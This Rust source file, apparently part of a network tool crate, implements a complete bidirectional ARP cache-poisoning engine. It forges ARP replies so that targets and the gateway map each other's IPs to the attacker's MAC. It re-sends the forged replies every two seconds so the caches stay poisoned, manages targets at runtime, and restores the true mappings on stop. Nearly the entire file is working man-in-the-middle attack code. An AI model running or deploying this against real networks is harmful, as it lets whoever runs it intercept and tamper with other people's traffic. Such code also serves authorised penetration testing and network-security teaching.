// src/arp.rs

//! Bidirectional ARP cache poisoning.
//!
//! Every target is told that the gateway's IP lives at our MAC and the
//! gateway is told the same about the target. Replies are repeated on a fixed
//! interval so neither side's cache expires back to the real address. On
//! removal or stop the true mappings are re-announced a few times.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use log::{debug, info, warn};
use pnet::packet::arp::{ArpHardwareTypes, ArpOperations, MutableArpPacket};
use pnet::packet::ethernet::{EtherTypes, MutableEthernetPacket};
use pnet::util::MacAddr;
use serde::Serialize;
use tokio::sync::{mpsc, oneshot, watch};
use tokio::task::{AbortHandle, JoinHandle};
use tokio::time::{interval_at, sleep, Instant, MissedTickBehavior};

use crate::driver::{LinkInjector, LinkLayer};
use crate::error::{Error, Result};
use crate::network::Host;
use crate::os::NetworkConfigurator;

pub const ETHERNET_HEADER_LEN: usize = 14;
pub const ARP_FRAME_LEN: usize = 42;
pub const SPOOF_INTERVAL: Duration = Duration::from_secs(2);
pub const RESTORE_ROUNDS: usize = 3;
pub const RESTORE_DELAY: Duration = Duration::from_millis(100);

/// Builds an Ethernet frame carrying an ARP reply announcing `sender_ip is-at
/// sender_mac`, addressed to `target_mac`.
///
/// # Examples
///
/// ```
/// use std::net::Ipv4Addr;
/// use pnet::util::MacAddr;
/// use packet_forge::arp::{build_arp_reply, ARP_FRAME_LEN};
///
/// let frame = build_arp_reply(
///     Ipv4Addr::new(192, 168, 1, 1),
///     MacAddr::new(2, 0, 0, 0, 0, 1),
///     Ipv4Addr::new(192, 168, 1, 20),
///     MacAddr::new(2, 0, 0, 0, 0, 20),
/// );
/// assert_eq!(frame.len(), ARP_FRAME_LEN);
/// assert_eq!(&frame[12..14], &[0x08, 0x06]);
/// ```
pub fn build_arp_reply(
    sender_ip: Ipv4Addr,
    sender_mac: MacAddr,
    target_ip: Ipv4Addr,
    target_mac: MacAddr,
) -> Vec<u8> {
    let mut buffer = vec![0u8; ARP_FRAME_LEN];

    if let Some(mut ethernet) = MutableEthernetPacket::new(&mut buffer) {
        ethernet.set_destination(target_mac);
        ethernet.set_source(sender_mac);
        ethernet.set_ethertype(EtherTypes::Arp);
    }

    if let Some(mut arp) = MutableArpPacket::new(&mut buffer[ETHERNET_HEADER_LEN..]) {
        arp.set_hardware_type(ArpHardwareTypes::Ethernet);
        arp.set_protocol_type(EtherTypes::Ipv4);
        arp.set_hw_addr_len(6);
        arp.set_proto_addr_len(4);
        arp.set_operation(ArpOperations::Reply);
        arp.set_sender_hw_addr(sender_mac);
        arp.set_sender_proto_addr(sender_ip);
        arp.set_target_hw_addr(target_mac);
        arp.set_target_proto_addr(target_ip);
    }

    buffer
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub enum ArpBackend {
    /// Forged replies injected on the wire
    Link,
    /// Local `arp -s` entries only; victims are not poisoned
    StaticArp,
}

#[derive(Debug, Clone)]
pub struct ArpConfig {
    pub interface: String,
    pub gateway: Host,
    pub targets: Vec<Host>,
    pub interval: Duration,
}

impl ArpConfig {
    pub fn new(interface: &str, gateway: Host, targets: Vec<Host>) -> Self {
        ArpConfig {
            interface: interface.to_string(),
            gateway,
            targets,
            interval: SPOOF_INTERVAL,
        }
    }
}

enum Sender {
    Link(Arc<dyn LinkInjector>),
    Static {
        os: Arc<dyn NetworkConfigurator>,
        interface: String,
    },
}

impl Sender {
    /// Tells `target` that `ip` is at `mac`.
    async fn announce(&self, ip: Ipv4Addr, mac: MacAddr, target: &Host) {
        match self {
            Sender::Link(injector) => {
                let frame = build_arp_reply(ip, mac, target.ip, target.mac);
                if let Err(e) = injector.send_frame(&frame) {
                    warn!("Failed to send ARP reply to {}: {}", target.ip, e);
                }
            }
            Sender::Static { os, interface } => {
                if let Err(e) = os.add_static_arp(interface, ip, mac).await {
                    debug!("Static ARP entry for {} failed: {}", ip, e);
                }
            }
        }
    }

    async fn forget(&self, ip: Ipv4Addr) {
        if let Sender::Static { os, interface } = self {
            if let Err(e) = os.remove_static_arp(interface, ip).await {
                debug!("Removing static ARP entry for {} failed: {}", ip, e);
            }
        }
    }
}

struct SpoofState {
    sender: Sender,
    local_mac: MacAddr,
    gateway: Host,
    targets: Vec<Host>,
}

impl SpoofState {
    async fn spoof(&self, target: &Host) {
        self.sender
            .announce(self.gateway.ip, self.local_mac, target)
            .await;
        self.sender
            .announce(target.ip, self.local_mac, &self.gateway)
            .await;
    }

    async fn spoof_all(&self) {
        for target in &self.targets {
            self.spoof(target).await;
        }
    }

    async fn restore(&self, target: &Host) {
        debug!("Restoring ARP caches for {}", target.ip);
        if let Sender::Static { .. } = self.sender {
            self.sender.forget(self.gateway.ip).await;
            self.sender.forget(target.ip).await;
            return;
        }
        for round in 0..RESTORE_ROUNDS {
            self.sender
                .announce(self.gateway.ip, self.gateway.mac, target)
                .await;
            self.sender
                .announce(target.ip, target.mac, &self.gateway)
                .await;
            if round + 1 < RESTORE_ROUNDS {
                sleep(RESTORE_DELAY).await;
            }
        }
    }
}

enum Command {
    Add(Host),
    Remove(Ipv4Addr, oneshot::Sender<()>),
}

/// A running spoofing session.
pub struct ArpSpoofer {
    backend: ArpBackend,
    local_mac: MacAddr,
    commands: mpsc::UnboundedSender<Command>,
    shutdown: watch::Sender<bool>,
    task: JoinHandle<()>,
}

impl ArpSpoofer {
    /// Resolves the local MAC, sends the first round of replies and keeps
    /// refreshing them in the background.
    ///
    /// Fails only when the interface MAC cannot be resolved. Without
    /// link-layer access the spoofer degrades to static ARP entries.
    pub async fn start(
        config: ArpConfig,
        link: &dyn LinkLayer,
        os: Arc<dyn NetworkConfigurator>,
    ) -> Result<Self> {
        let local_mac = link
            .interface_mac(&config.interface)
            .or_else(|| os.local_mac(&config.interface))
            .ok_or_else(|| {
                Error::DriverUnavailable(format!(
                    "Failed to resolve the MAC address of {}",
                    config.interface
                ))
            })?;

        let (sender, backend) = match link.open(&config.interface) {
            Ok(injector) => (Sender::Link(injector), ArpBackend::Link),
            Err(e) => {
                warn!(
                    "Link-layer injection unavailable ({}), falling back to static ARP entries",
                    e
                );
                (
                    Sender::Static {
                        os,
                        interface: config.interface.clone(),
                    },
                    ArpBackend::StaticArp,
                )
            }
        };

        info!(
            "Starting ARP spoofing on {} (local MAC {}, gateway {}, {} targets)",
            config.interface,
            local_mac,
            config.gateway,
            config.targets.len()
        );

        let state = SpoofState {
            sender,
            local_mac,
            gateway: config.gateway,
            targets: config.targets,
        };
        state.spoof_all().await;

        let (commands, command_rx) = mpsc::unbounded_channel();
        let (shutdown, shutdown_rx) = watch::channel(false);
        let task = tokio::spawn(run(state, config.interval, command_rx, shutdown_rx));

        Ok(ArpSpoofer {
            backend,
            local_mac,
            commands,
            shutdown,
            task,
        })
    }

    pub fn backend(&self) -> ArpBackend {
        self.backend
    }

    pub fn local_mac(&self) -> MacAddr {
        self.local_mac
    }

    pub fn add_target(&self, target: Host) -> Result<()> {
        self.commands
            .send(Command::Add(target))
            .map_err(|_| Error::state("ARP spoofer is not running"))
    }

    /// Stops spoofing `ip` and waits for its caches to be restored.
    pub async fn remove_target(&self, ip: Ipv4Addr) -> Result<()> {
        let (ack, done) = oneshot::channel();
        self.commands
            .send(Command::Remove(ip, ack))
            .map_err(|_| Error::state("ARP spoofer is not running"))?;
        done.await
            .map_err(|_| Error::state("ARP spoofer stopped while removing target"))
    }

    /// Handle for forcing the task down when a graceful stop stalls.
    pub fn abort_handle(&self) -> AbortHandle {
        self.task.abort_handle()
    }

    /// Stops the refresh loop after restoring every target's caches.
    pub async fn stop(self) {
        let _ = self.shutdown.send(true);
        if let Err(e) = self.task.await {
            warn!("ARP spoofer task ended abnormally: {}", e);
        }
        info!("ARP spoofing stopped");
    }
}

async fn run(
    mut state: SpoofState,
    period: Duration,
    mut commands: mpsc::UnboundedReceiver<Command>,
    mut shutdown: watch::Receiver<bool>,
) {
    let mut ticker = interval_at(Instant::now() + period, period);
    ticker.set_missed_tick_behavior(MissedTickBehavior::Delay);

    loop {
        tokio::select! {
            _ = shutdown.changed() => break,
            _ = ticker.tick() => state.spoof_all().await,
            Some(command) = commands.recv() => match command {
                Command::Add(target) => {
                    if state.targets.iter().any(|t| t.ip == target.ip) {
                        continue;
                    }
                    info!("Spoofing new target {}", target);
                    state.spoof(&target).await;
                    state.targets.push(target);
                }
                Command::Remove(ip, ack) => {
                    if let Some(pos) = state.targets.iter().position(|t| t.ip == ip) {
                        let target = state.targets.remove(pos);
                        state.restore(&target).await;
                        info!("Stopped spoofing {}", target);
                    }
                    let _ = ack.send(());
                }
            },
        }
    }

    for target in &state.targets {
        state.restore(target).await;
    }
}
